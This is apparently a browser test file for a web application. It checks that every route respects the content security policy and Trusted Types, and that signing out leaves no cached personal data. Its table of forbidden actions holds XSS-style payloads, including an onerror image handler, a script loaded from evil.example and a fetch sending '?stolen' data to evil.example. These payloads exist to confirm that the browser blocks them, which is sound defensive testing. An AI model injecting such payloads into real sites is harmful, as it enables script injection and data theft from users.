// The pages' own policy in a real browser: nothing on any page needs what it forbids, and what it forbids does not happen.
// Every other test of screens fails at a violation as well (test/browser.ts).
import assert from "node:assert/strict";
import { globSync, readFileSync } from "node:fs";
import { test } from "node:test";
import { site, walked } from "../browser.ts";
import { signedIn } from "../factories.ts";
import { buildResultGroup } from "../result-group.ts";
import { until } from "../until.ts";

const idOf = new Map<string, string>();
let token = "";
const { page: open } = await site(async ({ owner, ownerUrl }) => {
  const group = await buildResultGroup(owner, ownerUrl);
  const office = await signedIn(owner, {
    companyId: group.parent,
    role: "group_office",
    unitId: group.group,
  });
  token = office.token;
  const round = group.rounds[2];
  const { rows } = await owner.query<{ editionId: string }>(
    'select edition_id as "editionId" from rounds where id = $1',
    [round?.id],
  );
  for (const [place, id] of [
    ["companies", group.companies[0]?.id],
    ["people", office.personId],
    ["inspections", round?.inspections.get(group.companies[0]?.id ?? "")],
    ["rounds", round?.id],
    ["standards", rows[0]?.editionId],
  ] as const)
    idOf.set(place, id ?? "");
});

/** Every page as the modules list them; what this group has none of is opened by an id that leads nowhere. */
const pages = globSync("src/modules/*/web/routes.tsx").flatMap((file) =>
  [...readFileSync(file, "utf8").matchAll(/path: "([^"]+)"(?:[^}]*?import\("([^"]+)"\))?/g)].map(
    ([, path = "", screen = ""]) => ({ path, screen: `${file} ${screen}` }),
  ),
);
const addressOf = (path: string) =>
  path
    .replace("$controlId", "ORG-02")
    .replace(/^\/(\w+)\/\$id/, (_, place: string) => `/${place}/${idOf.get(place) ?? crypto.randomUUID()}`)
    .replaceAll(/\$\w+/g, () => crypto.randomUUID());

for (const theme of walked("light", "dark"))
  test(`S-01 no page does what the content security policy forbids (${theme})`, async () => {
    assert.ok(pages.length > 50, String(pages.length));
    const page = await open({ token, theme });
    await page.goto("/");
    await page.locator("main h1").first().waitFor();
    // Led on within: the policy is the document's, and each page brings its own parts.
    const leadTo = async (address: string) => {
      await page.evaluate(
        "for (const one of document.querySelectorAll('main :is(h1, [role=alert])')) one.dataset.before = ''",
      );
      await page.evaluate(
        `history.pushState({}, "", ${JSON.stringify(address)}); dispatchEvent(new PopStateEvent("popstate"))`,
      );
      await page.locator("main :is(h1, [role=alert]):not([data-before])").first().waitFor();
    };
    let before = "";
    for (const { path, screen } of pages) {
      // Two addresses of one screen keep its heading: by way of an address that is none.
      if (screen === before) await leadTo("/nowhere");
      before = screen;
      await leadTo(addressOf(path));
    }
    for (const path of ["/sign-in", "/set-up", "/invitation"]) {
      const lone = await open();
      await lone.goto(path);
      await lone.locator("h1").first().waitFor();
    }
  });

/** What the page's one policy of Trusted Types refuses is told like the rest. */
const forbidden: readonly [what: string, script: string, directive: string][] = [
  [
    "a script in the page",
    "const s = document.createElement('script'); s.append('window.ran = true'); document.body.append(s)",
    "require-trusted-types-for",
  ],
  [
    "a script from elsewhere",
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "require-trusted-types-for",
  ],
  [
    "markup with a handler",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
    "require-trusted-types-for",
  ],
  ["text run as a program", "setTimeout('window.ran = true')", "require-trusted-types-for|script-src"],
  [
    "a policy of one's own for markup",
    "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
    "trusted-types",
  ],
  ["a word to another server", "fetch('https://evil.example/?stolen').catch(() => undefined)", "connect-src"],
  [
    "a picture from another server",
    "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }))",
    "img-src",
  ],
  [
    "a frame",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
    "default-src|frame-src",
  ],
  [
    "a style without the nonce",
    "const s = document.createElement('style'); s.append('body { display: none }'); document.head.append(s)",
    "style-src",
  ],
  [
    "a form to elsewhere",
    "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
    "form-action",
  ],
];
for (const [what, script, directive] of forbidden)
  test(`S-01 ${what} is stopped by the browser`, async () => {
    const told: string[] = [];
    const page = await open({ onViolation: (violation) => told.push(violation) });
    await page.goto("/sign-in");
    await page.locator("h1").first().waitFor();
    await page.evaluate(`try { ${script} } catch {} void 0`);
    const violation = await until("the violation is reported", async () => told[0]);
    assert.match(violation, new RegExp(`against the policy: (${directive})`));
    assert.equal(await page.evaluate("window.ran"), undefined);
  });

test("S-01 after signing out neither the way back nor a kept answer shows anything of the person", async () => {
  const page = await open({ token });
  await page.goto("/people");
  await page.locator("main h1").first().waitFor();
  await page.goto("/companies");
  await page.locator("main h1").first().waitFor();
  // As another window of the same browser would: the session ends, the page itself is not told.
  const out = await page.evaluate<string | null>(
    "fetch('/api/session', { method: 'DELETE', headers: { 'x-yagura': '1' } }).then((reply) => reply.status + String(reply.headers.get('clear-site-data')))",
  );
  assert.match(out ?? "", /^200/);
  await page.goto("/sign-in");
  await page.goBack();
  await page.waitForURL(/sign-in/);
  assert.equal(await page.locator("main h1", { hasText: "Companies" }).count(), 0);
  assert.equal(
    await page.evaluate("fetch('/api/companies', { cache: 'force-cache' }).then((reply) => reply.status)"),
    401,
  );
});
